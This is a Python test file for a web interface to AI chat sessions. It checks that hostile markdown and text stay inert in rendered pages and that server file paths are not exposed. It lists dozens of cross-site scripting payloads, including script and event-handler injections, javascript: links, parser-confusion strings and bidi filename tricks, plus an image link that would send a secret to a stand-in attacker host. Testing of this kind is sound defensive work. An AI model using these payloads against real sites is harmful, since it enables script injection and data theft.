"""Nothing that Claude or a person wrote becomes a tag or a script, and places of the machine stay there."""

import re
from urllib.parse import quote

import pytest

from api.access import Role
from tests.web.page_check import check, every_element
from tests.web.page_model import parsed
from tests.web.web_world import OWNER, Browser, WebWorld
from texts.markdown_html import MarkdownHtml
from texts.unseen import as_seen

_HOSTILE = (
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "[x](javascript:alert(1))",
    "[x](data:text/html,<script>alert(1)</script>)",
    "![](http://evil.example/?q=secret)",
    "[paypal.de](https://evil.example)",
    '"><script>alert(1)</script>',
    "' onmouseover='alert(1)",
    "</textarea><script>alert(1)</script>",
    "`</code><script>alert(1)</script>`",
    "```html\n</pre><script>alert(1)</script>\n```",
    "<!--><script>alert(1)</script>-->",
    "<a href='https://evil.example' style='position:fixed;inset:0'>x</a>",
    "| <script>alert(1)</script> |\n|---|\n| <b onclick=alert(1)>x</b> |",
    "<iframe srcdoc='<script>alert(1)</script>'>",
    "[ref]\n\n[ref]: javascript:alert(1)",
    "<https://evil.example/<script>>",
    "\u202egnp.exe\u2066",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "</title></style></template><script>alert(1)</script>",
    "<scr\x00ipt>alert(1)</scr\x00ipt>\x00",
    "&lt;script&gt;alert(1)&lt;/script&gt; &#60;img src=x onerror=alert(1)&#62;",
    "[x](JaVa&#115;cript:alert(1)) [x](java&Tab;script:alert(1)) [x](&#x6A;avascript:alert(1)) [x](vbscript:x)",
    "<javascript:alert(1)> <data:text/html,x> <vscode://file/x> <ms-msdt:/id>",
    "[x](data:image/png;base64,AAAA) [x](blob:https://a/b) [x](view-source:https://a) [x](vscode://file/x)",
    "[x]( <ms-msdt:/id> ) [a][r] [r]\n\n[r]: vscode://file/x 'y'",
    "[![x](https://evil.example/i.png)](intent://x#Intent;scheme=https;end)",
    "[x](https://ok.example '\" onmouseover=\"alert(1)')",
    '~~~js" onclick=alert(1)\nx\n~~~',
    "\x1b[31mred\x1b]8;;https://evil.example\x07link\x1b]8;;\x07",
    "${alert(1)} {{constructor.constructor('alert(1)')()}} #{7*7} <%= 7 %> {x=>alert(1)}",
)
_SECRETLY = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]")


@pytest.mark.parametrize("text", _HOSTILE)
def test_hostile_markdown_stays_text(text: str) -> None:
    html = MarkdownHtml().render(as_seen(text))
    assert not _SECRETLY.search(html)
    check(parsed(html))


async def test_hostile_text_stays_text(world: WebWorld) -> None:
    """In answers, prompts, titles, names of people, templates, their places, tokens and browsers."""
    world.roles[OWNER], world.names[OWNER] = Role.ADMIN, "</h2><script>alert(1)</script>\u202e"
    ann = await world.browser(OWNER)
    said = "\n\n".join(each for each in _HOSTILE if "{" not in each and "\x00" not in each)
    session = await world.session_of(ann, f"demo:text {{{said}}}")
    await world.settled(ann, session)
    for text in _HOSTILE:
        world.parts.commands.forget_all()
        await ann.done("PATCH", f"/api/sessions/{session}", {"title": text})
        wish = {"name": text[:60], "text": f"{text} {{{text[:30]}}}", "project": ""}
        template = (await ann.done("POST", "/api/prompt-templates", wish))["id"]
        await ann.done("POST", "/api/tokens", {"name": text[:80], "scope": "read"})
        for path in ("/", f"/?text={quote(text[:3])}", f"/templates/{template}"):
            await _is_ours(ann, path)
    agent = {"User-Agent": _HOSTILE[0]}
    code = await world.parts.doors.make_code(OWNER)
    assert (await ann.send("POST", "/api/logins", {"code": code, "confirmed": True}, agent))[0] == 200
    for path in (f"/chat/{session}", "/doors", "/admin", "/login", "/templates"):
        await _is_ours(ann, path)
    draft = await ann.done("POST", f"/api/sessions/{session}/pages", {"tools": True, "thinking": True})
    page_id = draft["id"]
    done = await ann.done("POST", f"/api/sessions/{session}/pages/{page_id}/publish", {})
    status, page = await (await world.stranger()).send("GET", f"/shared/{done['token']}")
    assert status == 200
    check(parsed(page))
    assert "<script" not in page


async def _is_ours(browser: Browser, path: str) -> None:
    status, page = await browser.send("GET", path)
    assert status == 200, path
    check(parsed(page))
    assert not _SECRETLY.search(page), path


async def test_hostile_asks_stay_text(world: WebWorld) -> None:
    ann = await world.browser(OWNER)
    for prompt in (
        "demo:bash touch '<script>alert(1)</script>\u202e'",
        "demo:plan <script>alert(1)</script>",
    ):
        session = await world.session_of(ann, prompt)
        await world.asked(session)
        page = await ann.done("GET", f"/chat/{session}")
        check(parsed(page))
        assert "&lt;script&gt;" in page
        assert "\u202e" not in page


async def test_places_of_the_machine_stay_there(world: WebWorld) -> None:
    ann = await world.browser(OWNER)
    session = await world.session_of(ann)
    place = (await world.core.manager.get_session(session)).snapshot.work_directory
    prompt = f"demo:write {place}/deep/notes.md words demo:bash touch {place}/x"
    await ann.done("POST", f"/api/sessions/{session}/messages", {"content": prompt})
    await world.asked(session)
    page = await ann.done("GET", f"/chat/{session}")
    turns = parsed(page).find("turns")
    assert turns is not None
    for element in every_element(turns):
        if "prompt" not in (element.attrs.get("class") or "") and "text" not in (
            element.attrs.get("class") or ""
        ):
            assert not any(place in part for part in element.parts if isinstance(part, str)), element
